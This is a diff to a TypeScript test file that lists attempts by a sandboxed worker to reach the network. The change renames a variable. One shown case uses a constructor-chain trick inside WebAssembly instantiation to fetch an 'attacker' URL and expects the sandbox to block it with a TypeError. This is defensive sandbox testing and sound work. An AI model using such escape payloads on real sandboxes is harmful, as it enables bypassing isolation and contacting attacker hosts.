@@ -1,6 +1,6 @@
 import type { Attack } from './attack.ts';
 
-const streams = 'const module = () => new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);';
+const emptyModule = 'const module = () => new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);';
 
 /** Every way that a worker has to reach a network. */
 export const network: Attack[] = [
@@ -183,7 +183,7 @@ export const network: Attack[] = [
   },
   {
     name: 'WebAssembly that asks the import object for a fetch',
-    body: `${streams} const { instance } = await WebAssembly.instantiate(module(), { env: { fetch } }); return (await instance.constructor.constructor("return fetch('" + attacker + "/wasm')")()).status`,
+    body: `${emptyModule} const { instance } = await WebAssembly.instantiate(module(), { env: { fetch } }); return (await instance.constructor.constructor("return fetch('" + attacker + "/wasm')")()).status`,
     blocked: 'TypeError',
   },
   {
